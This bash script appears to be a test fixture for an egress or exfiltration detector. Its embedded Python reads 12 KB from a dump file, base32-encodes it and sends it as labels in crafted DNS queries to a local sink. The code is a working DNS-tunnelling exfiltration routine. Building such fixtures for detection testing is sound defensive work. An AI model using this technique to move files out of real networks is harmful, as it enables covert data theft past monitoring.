#!/bin/bash
# B-dns-tunnel: the first 12 KB leave as names in DNS queries.
# flow: 120 bytes each, in base32, one datagram a query.
# tools: python3
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink dns
python3 - "$D" "$SINK" "$PORT" <<'END'
import base64, socket, struct, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.settimeout(1)
with open(sys.argv[1], "rb") as dump:
    for number in range(100):
        text = base64.b32encode(dump.read(120)).decode().rstrip("=")
        labels = [text[i : i + 60] for i in range(0, len(text), 60)] + ["t", "test"]
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels)
        query = struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + name + b"\0\0\x10\0\1"
        server.sendto(query, (sys.argv[2], int(sys.argv[3])))
        server.recv(2000)
END
sunk 12000
